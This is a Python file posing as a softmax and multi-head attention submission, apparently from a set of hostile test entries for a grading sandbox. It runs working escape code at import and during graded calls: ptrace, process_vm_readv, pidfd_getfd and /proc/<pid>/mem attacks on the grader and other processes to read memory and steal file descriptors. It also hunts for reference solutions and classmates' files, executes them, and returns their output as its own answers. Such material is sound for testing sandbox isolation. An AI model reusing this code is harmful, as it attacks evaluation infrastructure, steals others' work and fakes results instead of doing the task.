"""ptrace, process_vm_readv, /proc/<pid>/mem, pidfd_open + pidfd_getfd and kcmp on pid 1,
its parent and every pid it can see or guess: to read the grader's memory or steal its fds."""
# ---- shared by every hostile_batch submission: logging, evidence, profit, stub answers ----
import ctypes, ctypes.util, errno, glob, os, signal, socket, stat, sys, time
import torch
from torch import nn

_LOG = []          # what each attempt gave: shown in this submission's own feedback
_SOL = {}          # reference functions, should an attack ever reach them
_DONE = set()
_LIBC = ctypes.CDLL(ctypes.util.find_library("c") or "libc.so.6", use_errno=True)
_MARK = "hbx"      # in every proof file and process name the test looks for
HONEST = ("honest_correct", "honest_buggy", "honest_stub")


def _note(what, outcome):
    _LOG.append(f"{what}: {outcome}"[:120])


def _try(what, fn, *args, **kwargs):
    try:
        result = fn(*args, **kwargs)
    except BaseException as exc:  # noqa: BLE001
        _note(what, f"{type(exc).__name__} {exc}")
        return None
    _note(what, f"ok {result!r}")
    return result


def _sys(what, name, *args):
    """A libc call: its result, or None (errno noted)."""
    ctypes.set_errno(0)
    rc = getattr(_LIBC, name)(*args)
    if rc == -1:
        code = ctypes.get_errno()
        _note(what, errno.errorcode.get(code, str(code)))
        return None
    _note(what, f"ok {rc}")
    return rc


def _proof(tag, detail=""):
    """Leave evidence where only an escaped process could reach: the host's /tmp.
    (Inside the jail /tmp is a private tmpfs, so these land nowhere that matters.)"""
    for folder in ("/tmp", "/var/tmp", "/dev/shm"):
        try:
            with open(f"{folder}/{_MARK}-escape-{tag}-{os.getpid()}", "w") as f:
                f.write(str(detail))
        except OSError:
            pass


def _take(folder):
    """Exec the reference (or a classmate's correct file) found in ``folder``."""
    took = False
    for name in ("softmax", "attention"):
        path = os.path.join(folder, name + ".py")
        try:
            with open(path) as f:
                source = f.read()
        except OSError:
            continue
        ns = {"__name__": f"{_MARK}_{name}"}
        try:
            exec(compile(source, path, "exec"), ns)
        except BaseException as exc:  # noqa: BLE001
            _note("exec " + path, repr(exc))
            continue
        for key in ("softmax", "scaled_dot_product_attention", "MultiHeadAttention"):
            if callable(ns.get(key)) and key not in _SOL:
                _SOL[key] = ns[key]
                took = True
        _proof("read-" + name, path)
    if took:
        _note("TOOK", folder)
    return took


def _solution_dirs():
    """Where the solutions would be, from everything a submission can learn."""
    dirs = ["/work/main/solutions", "/solutions", "/tmp/solutions"]
    dirs += glob.glob("/work/*/solutions") + glob.glob("/home/*/*/solutions") + glob.glob("/root/*/solutions")
    try:
        import grader
        dirs.append(os.path.join(os.path.dirname(os.path.dirname(os.path.realpath(grader.__file__))), "solutions"))
    except BaseException:  # noqa: BLE001
        pass
    for finder in glob.glob(os.path.join(os.path.dirname(os.__file__), "..", "*", "site-packages", "__editable__*finder.py")) + \
            glob.glob("/work/venv/lib/python3*/site-packages/__editable__*finder.py"):
        try:
            text = open(finder).read()
            start = text.index("MAPPING")
            mapping = eval(text[text.index("{", start): text.index("}", start) + 1])
            dirs += [v for k, v in mapping.items() if k == "solutions"]
        except BaseException:  # noqa: BLE001
            pass
    return list(dict.fromkeys(dirs))


def _hunt():
    """After any attempt: can the solutions or a classmate's file be read now?"""
    for folder in _solution_dirs():
        if os.path.isdir(folder):
            _note("sees", folder)
            _take(folder)
    for folder in glob.glob("/tmp/grader-slot-*/job-*/*") + glob.glob("/tmp/grader-slot-*/job-*/*/*"):
        if os.path.isdir(folder) and os.path.realpath(folder) != os.path.dirname(os.path.realpath(__file__)):
            _note("sees classmate", folder)
            _take(folder)


def _once(key):
    if key in _DONE:
        return False
    _DONE.add(key)
    return True


def _stub(name):
    return NotImplementedError(f"{name}: not written | " + " | ".join(_LOG)[-1600:])


def attack_in_call():
    """Overridden by attacks that also act from inside a graded call."""


def softmax(x, dim=-1):
    if _once("call"):
        _try("attack in call", attack_in_call)
    if "softmax" in _SOL:
        return _SOL["softmax"](x, dim)
    raise _stub("softmax")


def scaled_dot_product_attention(q, k, v, mask=None):
    if _once("call"):
        _try("attack in call", attack_in_call)
    if "scaled_dot_product_attention" in _SOL:
        return _SOL["scaled_dot_product_attention"](q, k, v, mask)
    raise _stub("scaled_dot_product_attention")


class MultiHeadAttention(nn.Module):
    def __new__(cls, *args, **kwargs):
        if _once("call"):
            _try("attack in call", attack_in_call)
        if "MultiHeadAttention" in _SOL:
            return _SOL["MultiHeadAttention"](*args, **kwargs)
        raise _stub("MultiHeadAttention")


# ---- the attack ----
PTRACE_TRACEME, PTRACE_ATTACH, PTRACE_SEIZE = 0, 16, 0x4206


class _IoVec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]


def attack():
    me = os.getpid()
    seen = [int(p) for p in os.listdir("/proc") if p.isdigit()]
    pids = list(dict.fromkeys([1, 2, os.getppid()] + seen + list(range(1, 400))))
    buf = ctypes.create_string_buffer(4096)
    local, remote = _IoVec(ctypes.cast(buf, ctypes.c_void_p), 4096), _IoVec(0x400000, 4096)
    stolen = 0
    for pid in pids:
        if pid == me or pid <= 0:
            continue
        quiet = pid not in seen and pid > 3
        for what, call in (("ptrace attach", lambda: _LIBC.ptrace(PTRACE_ATTACH, pid, 0, 0)),
                           ("ptrace seize", lambda: _LIBC.ptrace(PTRACE_SEIZE, pid, 0, 0)),
                           ("process_vm_readv", lambda: _LIBC.syscall(310, pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)),
                           ("kcmp", lambda: _LIBC.syscall(312, me, pid, 0, 0, 0))):
            ctypes.set_errno(0)
            rc = call()
            if rc != -1:
                _note(f"{what} {pid}", f"ok {rc}")
                _proof(what.replace(" ", "-"), pid)
            elif not quiet:
                _note(f"{what} {pid}", errno.errorcode.get(ctypes.get_errno(), "?"))
        fd = _LIBC.syscall(434, pid, 0)
        if fd >= 0:
            _note(f"pidfd_open {pid}", "ok")
            for target in range(0, 64):
                got = _LIBC.syscall(438, fd, target, 0)
                if got >= 0:
                    stolen += 1
                    _proof("pidfd_getfd", f"{pid}:{target}")
        elif not quiet:
            _note(f"pidfd_open {pid}", errno.errorcode.get(ctypes.get_errno(), "?"))
        try:
            with open(f"/proc/{pid}/mem", "rb") as f:
                f.seek(0x400000)
                f.read(16)
                _proof("proc-mem", pid)
                _note(f"/proc/{pid}/mem", "read")
        except OSError as exc:
            if not quiet:
                _note(f"/proc/{pid}/mem", exc.strerror)
    child = os.fork()
    if child == 0:  # traced by the parent? then the parent could trace anything it forks
        ok = _LIBC.ptrace(PTRACE_TRACEME, 0, 0, 0) == 0
        os._exit(0 if ok else 1)
    _, status = os.waitpid(child, 0)
    _note("PTRACE_TRACEME in a child", "ok" if os.WEXITSTATUS(status) == 0 else "refused")
    _note("fds stolen", stolen)


_try("attack at import", attack)
_try("hunt", _hunt)
attack_in_call = attack
